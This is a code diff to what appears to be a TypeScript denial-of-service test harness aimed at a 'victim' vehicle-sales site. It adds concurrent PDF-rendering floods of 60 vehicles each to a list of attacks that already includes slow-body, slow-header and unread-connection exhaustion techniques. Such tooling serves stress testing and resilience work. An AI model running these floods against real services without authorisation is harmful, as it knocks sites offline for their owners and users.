@@ -27,6 +27,15 @@ async function vehicleSlugs(victim: Victim, count: number): Promise<string[]> {
   return [...text.matchAll(/"slug":"([^"]+)"/g)].map(([, slug = '']) => slug)
 }
 
+/** Window cards of the vehicles at these places of the stock, all asked for at once. */
+async function pdfs(victim: Victim, from: number, to: number): Promise<Sent[]> {
+  const slugs = (await vehicleSlugs(victim, to)).slice(from)
+  return atOnce(
+    victim,
+    slugs.map((slug) => ({ line: `GET /cars/${slug}.pdf` })),
+  )
+}
+
 /** Connections that ask and never read; gives what was answered before they were let go. */
 async function holdUnread(victim: Victim, connections: number, requestsEach: number): Promise<Sent[]> {
   const path = `GET ${SEARCH}?limit=1000&q=a&attributesToHighlight=*`
@@ -180,13 +189,11 @@ export const FLOODS: readonly Attack[] = [
   { name: 'slow bodies: 200 forms, a byte a second', run: trickle },
   { name: 'slow headers: 200 connections that never end theirs', run: slowHeads },
   {
-    name: 'PDFs of 60 vehicles at once',
-    run: async (victim) =>
-      atOnce(
-        victim,
-        (await vehicleSlugs(victim, 60)).map((slug) => ({ line: `GET /cars/${slug}.pdf` })),
-      ),
+    name: 'a PDF, the first: starts the thread that draws, one for a process',
+    run: (victim) => pdfs(victim, 120, 121),
   },
+  { name: 'PDFs of 60 vehicles at once', run: (victim) => pdfs(victim, 0, 60) },
+  { name: 'PDFs of 60 other vehicles at once', run: (victim) => pdfs(victim, 60, 120) },
   {
     name: 'link pictures of 60 vehicles at once',
     run: async (victim) =>
